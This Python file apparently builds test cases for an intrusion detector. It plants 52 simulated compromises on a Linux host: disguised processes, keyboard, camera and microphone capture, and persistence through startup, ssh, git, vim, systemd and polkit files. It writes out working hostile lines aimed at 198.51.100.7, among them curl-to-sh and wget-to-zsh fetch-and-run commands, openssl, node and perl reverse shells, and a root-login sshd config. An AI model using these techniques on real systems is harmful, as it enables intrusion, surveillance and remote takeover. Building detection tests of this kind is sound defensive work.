"""The third set: behaviours in shapes of another tester's own invention.

Written apart from the rules by somebody who has not read them.
"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

from measures.planting import Plants, Program, Stage
from measures.props import (
    HOME,
    append,
    connected,
    copy,
    held,
    install,
    listening,
    make_device,
    make_folder,
    make_library,
    make_program,
    opened,
    wire,
    write,
)

PLANTS = Plants()
add = PLANTS.add
FETCH = "curl -fsSL http://198.51.100.7/a | sh"


# ---- programs that hide or pose --------------------------------------------------------------


@add("T01", "runs from a hidden file of the person's runtime folder")
def runtime_folder(stage: Stage) -> None:
    stage.sleep_as("/run/user/1000/.dbus-proxy")


@add("T02", "runs as root from a folder for pictures")
def picture_folder(stage: Stage) -> None:
    stage.sleep_as("/usr/share/icons/hicolor/48x48/apps/.icon-cache", uid=0)


@add("T03", "Tcl script whose command line poses as a part of the kernel")
def tcl_as_kernel(stage: Stage) -> None:
    path = stage.write(f"{HOME}/Music/list.tcl", "after 1000000000 {set x 1}\nvwait x\n")
    stage.lead(path)
    stage.start(Program(["[kworker/1:0H-kblockd]", path], exe="/usr/bin/tclsh"))


@add("T04", "name of a system program with a letter of another alphabet")
def other_alphabet(stage: Stage) -> None:
    stage.sleep_as(f"{HOME}/.local/bin/syst\u0435md-logind")


@add("T05", "renamed copy of an interpreter runs a script as root")
def renamed_interpreter(stage: Stage) -> None:
    path = copy(os.path.realpath("/usr/bin/python3"), "/usr/local/bin/dbus-broker-launch")
    script = stage.write("/var/lib/.state/main", "import time\ntime.sleep(10**6)\n")
    stage.lead(path, script)
    stage.start(Program([path, script], uid=0))


@add("T06", "poses as a helper of the log-in, by command line and short name")
def poses_as_login(stage: Stage) -> None:
    path = make_program(f"{HOME}/Pictures/2023/.raw/pam")
    stage.lead(path)
    stage.start(Program(["(sd-pam)"], exe=path, short="(sd-pam)"))


@add("T07", "program on a file system that was taken away under it")
def taken_away(stage: Stage) -> None:
    make_folder("/media/u")
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/media/u"], check=True)
    stage.sleep_as("/media/u/agent")
    time.sleep(0.2)
    subprocess.run(["umount", "-l", "/media/u"], check=True)


@add("T08", "a known tool renamed and wiped: its command line is empty")
def wiped(stage: Stage) -> None:
    path = make_program("/var/cache/fontconfig/fc-worker")
    stage.lead(path)
    stage.start(Program([path, "-k", "secret"], wipe=True, keep=[connected(443)]))


@add("T09", "Lua script read from a pipe, its text nowhere on the disk")
def piped(stage: Stage) -> None:
    reading, writing = os.pipe()
    stdio = [lambda: os.dup(reading)]
    keep = [lambda: os.dup(writing), connected(8080)]
    stage.start(Program(["lua5.4", "-"], stdio=stdio, keep=keep))


# ---- programs that watch -----------------------------------------------------------------------


@add("T10", "raw handle on a keyboard (hidraw), without admin rights")
def raw_keyboard(stage: Stage) -> None:
    device = make_device("/dev/hidraw0", 240, 0, "input", 0o666)
    stage.sleep_as(f"{HOME}/.local/share/rgb/rgbd", keep=[held(device)])


@add("T11", "all USB traffic heard, keyboards too, as root", root_only=True)
def usb_traffic(stage: Stage) -> None:
    device = make_device("/dev/usbmon1", 189, 129, "root")
    stage.sleep_as("/usr/local/sbin/usbstat", uid=0, keep=[held(device)])


@add("T12", "keys printed by a packaged tool into a hidden file, as root")
def keys_to_file(stage: Stage) -> None:
    device = make_device("/dev/input/event6", 13, 70, "input")
    path = make_program("/usr/bin/evtest")
    install("evtest", path)
    target = "/var/lib/misc/.ev"
    write(target, "")
    stage.lead(path, target)
    out = opened(target, os.O_WRONLY)
    stage.start(Program(["evtest", device], uid=0, keep=[held(device)], stdio=[out, out, out]))


@add("T13", "microphone of a packaged recorder sent to another computer")
def sound_sent(stage: Stage) -> None:
    device = make_device("/dev/snd/pcmC2D0c", 116, 88, "audio", 0o666)
    path = make_program("/usr/bin/arecord")
    install("alsa-utils", path)
    stage.lead(path)
    words = ["arecord", "-q", "-D", "hw:2,0", "-f", "cd", "-t", "raw"]
    stage.start(Program(words, keep=[held(device)], stdio=[held(os.devnull), connected(8080)]))


@add("T14", "camera held and sent away by a renamed ffmpeg in the picture cache")
def camera_renamed(stage: Stage) -> None:
    device = make_device("/dev/video0", 81, 0, "video", 0o666)
    words = ["-f", "v4l2", "-i", "/dev/video0", "-f", "flv", "rtmp://198.51.100.7/live"]
    path = f"{HOME}/.cache/thumbnails/large/thumb"
    stage.sleep_as(path, *words, keep=[held(device), connected(443)])


@add("T15", "loop that keeps a picture of the screen every minute")
def screen_loop(stage: Stage) -> None:
    code = "while sleep 60; do import -window root ~/.cache/.s/$(date +%s).png; done"
    stage.start(Program(["sh", "-c", code]))


@add("T16", "script that keeps what is in the clipboard")
def clipboard(stage: Stage) -> None:
    code = "while sleep 60; do\n  xclip -o -selection clipboard >> ~/.cache/.cb\ndone\n"
    path = stage.write(f"{HOME}/.local/bin/cb-sync", f"#!/bin/sh\n{code}", 0o755)
    stage.lead(path)
    stage.start(Program(["/bin/sh", path]))


@add("T17", "messages of the desktop taken from its bus into a hidden file")
def bus(stage: Stage) -> None:
    target = f"{HOME}/.cache/.n.log"
    write(target, "")
    out = opened(target, os.O_WRONLY)
    words = ["dbus-monitor", "--session", "interface='org.freedesktop.Notifications'"]
    env = {"DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus"}
    stage.lead(target)
    stage.start(Program(words, env=env, stdio=[held(os.devnull), out, out]))


@add("T18", "foreign code in the command window by GTK_MODULES")
def gtk_module(stage: Stage) -> None:
    library = make_library(f"{HOME}/.local/lib/gtk-3.0/modules/libcanberra-x.so")
    path = make_program("/usr/bin/xfce4-terminal")
    install("xfce4-terminal", path)
    stage.lead(library, path)
    stage.start(Program([path], env={"GTK_MODULES": library}, library=library))


@add("T19", "memory of the computer held, as root", root_only=True)
def all_memory(stage: Stage) -> None:
    device = make_device("/dev/mem", 1, 1, "kmem", 0o640)
    stage.sleep_as("/usr/local/libexec/memtest-helper", uid=0, keep=[held(device)])


@add("T20", "saved passwords of a keyring held open by a Tcl script")
def keyring(stage: Stage) -> None:
    secret = f"{HOME}/.local/share/keyrings/login.keyring"
    write(secret, "x", 0o600)
    path = stage.write(f"{HOME}/Templates/t.tcl", "after 1000000000 {set x 1}\nvwait x\n")
    stage.lead(path)
    stage.start(Program(["tclsh", path], keep=[opened(secret), connected(443)]))


# ---- programs that let somebody in -------------------------------------------------------------


@add("T21", "Tcl that takes its orders from another computer")
def tcl_orders(stage: Stage) -> None:
    stage.start(Program(["tclsh"], stdio=wire(4444)))


@add("T22", "shell joined to an encrypted connection by a named pipe")
def encrypted(stage: Stage) -> None:
    code = (
        "mkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1"
        " | openssl s_client -quiet -connect 198.51.100.7:443 > /tmp/.s"
    )
    stage.start(Program(["sh", "-c", code]))
    time.sleep(0.3)
    for name in ("openssl", "sh"):
        told = subprocess.run(["pgrep", "-u", "anna", "-x", name], capture_output=True, check=True)
        stage.truth.pids += [int(told.stdout.split()[-1])]


@add("T23", "a second log-in service with keys from a temporary folder")
def second_login(stage: Stage) -> None:
    words = ["/usr/sbin/sshd", "-D", "-p", "2022", "-o", "AuthorizedKeysFile=/var/tmp/.k"]
    stage.start(Program([*words, "-o", "PermitRootLogin=yes"], uid=0))


@add("T24", "shell in a web page for other computers")
def web_shell(stage: Stage) -> None:
    words = ["-p", "7681", "-W", "bash"]
    stage.sleep_as(f"{HOME}/bin/ttyd", *words, keep=[listening(7681)])


@add("T25", "screen shown to others by a renamed program")
def screen_shown(stage: Stage) -> None:
    words = ["-display", ":0", "-forever", "-shared", "-nopw", "-rfbport", "5901", "-bg"]
    stage.sleep_as(f"{HOME}/.local/libexec/gsd-display", *words, keep=[listening(5901)])


@add("T26", "debugger that other computers may use")
def debugger(stage: Stage) -> None:
    path = make_program("/usr/bin/gdbserver")
    install("gdbserver", path)
    stage.lead(path)
    stage.start(Program(["gdbserver", "--multi", "0.0.0.0:2345"], keep=[listening(2345)]))


@add("T27", "Java program that lets other computers steer it")
def java(stage: Stage) -> None:
    path = make_program("/usr/lib/jvm/java-17-openjdk-amd64/bin/java")
    install("openjdk-17-jre-headless", path)
    stage.lead(path)
    write(f"{HOME}/apps/notes.jar", b"PK")
    agent = "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005"
    words = [path, agent, "-jar", f"{HOME}/apps/notes.jar"]
    stage.start(Program(words, keep=[listening(5005)]))


@add("T28", "code on the command line of node, joined to another computer")
def node(stage: Stage) -> None:
    path = make_program("/usr/bin/node")
    install("nodejs", path)
    stage.lead(path)
    code = (
        "require('net').connect(8080, '198.51.100.7',"
        " s => s.pipe(require('child_process').exec('sh').stdin))"
    )
    stage.start(Program(["node", "-e", code], keep=[connected(8080)]))


@add("T29", "browser started with an extension from a hidden folder")
def extension(stage: Stage) -> None:
    path = make_program("/usr/lib/chromium/chromium")
    install("chromium", path)
    folder = f"{HOME}/.cache/.ext"
    write(f"{folder}/manifest.json", '{"name": "x", "permissions": ["<all_urls>"]}\n')
    stage.lead(path, folder)
    stage.start(Program([path, f"--load-extension={folder}"]))


@add("T30", "perl one-liner that listens for other computers")
def perl_listens(stage: Stage) -> None:
    words = ["perl", "-MIO::Socket", "-e", "sleep 1000000"]
    stage.start(Program(words, keep=[listening(31337)]))


# ---- places ------------------------------------------------------------------------------------


@add("T31", "program that makes services while the computer starts (generator)")
def generator(stage: Stage) -> None:
    path = "/etc/systemd/system-generators/zz-net"
    stage.write(path, "#!/bin/sh\n/var/lib/.net/run &\n", 0o755)
    stage.lead(path, make_program("/var/lib/.net/run"))


@add("T32", "addition to a known service starts a hidden program")
def drop_in(stage: Stage) -> None:
    target = make_program("/usr/lib/locale/.c/loc")
    path = "/etc/systemd/system/cron.service.d/override.conf"
    stage.write(path, f"[Service]\nExecStartPost=-{target}\n")
    stage.lead(path, target)


@add("T33", "service of the person's bus that takes the place of a known one")
def bus_service(stage: Stage) -> None:
    target = make_program(f"{HOME}/.cache/.notif/n")
    path = f"{HOME}/.local/share/dbus-1/services/org.freedesktop.Notifications.service"
    stage.write(path, f"[D-BUS Service]\nName=org.freedesktop.Notifications\nExec={target}\n")
    stage.lead(path, target)


@add("T34", "start file of KDE that fetches and runs")
def plasma(stage: Stage) -> None:
    path = f"{HOME}/.config/plasma-workspace/env/locale.sh"
    stage.write(path, f"#!/bin/sh\n{FETCH}\n", 0o755)
    stage.lead(path)


@add("T35", "set-up of a window manager starts a program in /tmp")
def window_manager(stage: Stage) -> None:
    target = make_program("/tmp/.i3-bar")
    path = f"{HOME}/.config/i3/config"
    stage.write(path, f"set $mod Mod4\nexec --no-startup-id {target}\n")
    stage.lead(path, target)


@add("T36", "greeting of the log-in starts a hidden program")
def greeting(stage: Stage) -> None:
    path = "/etc/update-motd.d/99-news"
    stage.write(path, "#!/bin/sh\n/var/tmp/.news >/dev/null 2>&1 &\n", 0o755)
    stage.lead(path, make_program("/var/tmp/.news"))


@add("T37", "job put off with at", root_only=True)
def put_off(stage: Stage) -> None:
    path = "/var/spool/cron/atjobs/a0000101c5a2b0"
    write(path, f"#!/bin/sh\n# atrun uid=1000 gid=1000\n{FETCH}\n", 0o700)
    os.chown(path, 1000, 1)
    stage.lead(path)


@add("T38", "git runs a hidden program with each command")
def git(stage: Stage) -> None:
    target = make_program(f"{HOME}/.cache/.g/fsm")
    path = f"{HOME}/.gitconfig"
    stage.write(path, f"[core]\n\tfsmonitor = {target}\n[user]\n\tname = Anna\n")
    stage.lead(path, target)


@add("T39", "script that runs at each log-in from afar")
def ssh_rc(stage: Stage) -> None:
    path = f"{HOME}/.ssh/rc"
    stage.write(path, f"({FETCH}) >/dev/null 2>&1 &\n", 0o700)
    stage.lead(path)


@add("T40", "log-in service takes keys from a temporary folder")
def keys_elsewhere(stage: Stage) -> None:
    path = "/etc/ssh/sshd_config.d/50-cloud.conf"
    stage.write(path, "AuthorizedKeysFile /var/tmp/.keys/%u\nPermitRootLogin yes\n")
    write("/var/tmp/.keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC4s0VfG1qJ1c1uVY1v x\n")
    stage.lead(path)


@add("T41", "driver set-up runs a program in /dev/shm")
def modprobe(stage: Stage) -> None:
    target = make_program("/dev/shm/.mod")
    path = "/etc/modprobe.d/usb-quirks.conf"
    stage.write(path, f"install usb-storage {target}; modprobe -i usb-storage\n")
    stage.lead(path, target)


@add("T42", "editor's start file runs a hidden program")
def vim(stage: Stage) -> None:
    target = make_program(f"{HOME}/.vim/.swap/v")
    path = f"{HOME}/.vimrc"
    stage.write(path, f"syntax on\nautocmd VimEnter * silent !{target} &\n")
    stage.lead(path, target)


@add("T43", "menu entry of a browser that starts something else")
def menu(stage: Stage) -> None:
    target = make_program(f"{HOME}/.local/share/.ff/firefox")
    honest = "/usr/share/applications/firefox-esr.desktop"
    write(honest, "[Desktop Entry]\nType=Application\nName=Firefox\nExec=firefox-esr %u\n")
    install("firefox-esr", honest)
    path = f"{HOME}/.local/share/applications/firefox-esr.desktop"
    stage.write(path, f"[Desktop Entry]\nType=Application\nName=Firefox\nExec={target} %u\n")
    stage.lead(path, target)


@add("T44", "libraries taken from a person's folder by every program")
def library_folder(stage: Stage) -> None:
    path = "/etc/ld.so.conf.d/00-local.conf"
    stage.write(path, f"{HOME}/.local/lib/x\n")
    stage.lead(path, make_library(f"{HOME}/.local/lib/x/libpam.so.0"))


@add("T45", "everything allowed without asking, by polkit", root_only=True)
def polkit(stage: Stage) -> None:
    path = "/etc/polkit-1/rules.d/10-local.rules"
    stage.write(path, "polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n")
    stage.lead(path)


@add("T46", "all pages go through another computer", notice=True)
def proxy(stage: Stage) -> None:
    append("/etc/environment", "https_proxy=http://198.51.100.7:8080\n")
    stage.lead("/etc/environment")


@add("T47", "sudo of a hidden folder comes first in the path")
def path_first(stage: Stage) -> None:
    target = make_program(f"{HOME}/.cache/.b/sudo")
    append(f"{HOME}/.profile", '\nPATH="$HOME/.cache/.b:$PATH"\n')
    stage.lead(f"{HOME}/.profile", target)


@add("T48", "start file of another shell fetches and runs")
def zshenv(stage: Stage) -> None:
    path = f"{HOME}/.zshenv"
    stage.write(path, "(wget -qO- http://198.51.100.7/z | zsh) &!\n")
    stage.lead(path)


@add("T49", "autostart entry that hides a known one, with code for perl")
def shadowed(stage: Stage) -> None:
    path = f"{HOME}/.config/autostart/at-spi-dbus-bus.desktop"
    code = "perl -MIO::Socket -e '$s=IO::Socket::INET->new(q(198.51.100.7:80));eval while<$s>'"
    stage.write(path, f"[Desktop Entry]\nType=Application\nName=AT-SPI\nExec={code}\n")
    stage.lead(path)


@add("T50", "start file of all shells starts a program in shared memory")
def profile_d(stage: Stage) -> None:
    target = make_program("/dev/shm/.locale")
    path = "/etc/profile.d/zz-locale.sh"
    stage.write(path, f"[ -x {target} ] && ({target} &) 2>/dev/null\n")
    stage.lead(path, target)


@add("T51", "timetable for slow days starts a hidden program")
def anacron(stage: Stage) -> None:
    target = make_program("/var/games/.score")
    append("/etc/anacrontab", f"1\t3\tscore\t{target}\n")
    stage.lead("/etc/anacrontab", target)


@add("T52", "socket of the person's that starts a shell for whoever calls")
def socket_unit(stage: Stage) -> None:
    folder = f"{HOME}/.config/systemd/user"
    stage.write(f"{folder}/note.socket", "[Socket]\nListenStream=7070\nAccept=yes\n"
                "[Install]\nWantedBy=sockets.target\n")  # fmt: skip
    stage.write(f"{folder}/note@.service", "[Service]\nExecStart=/bin/sh\nStandardInput=socket\n")
    make_folder(f"{folder}/sockets.target.wants")
    Path(f"{folder}/sockets.target.wants/note.socket").symlink_to(f"{folder}/note.socket")
    stage.lead(f"{folder}/note.socket", f"{folder}/note@.service")
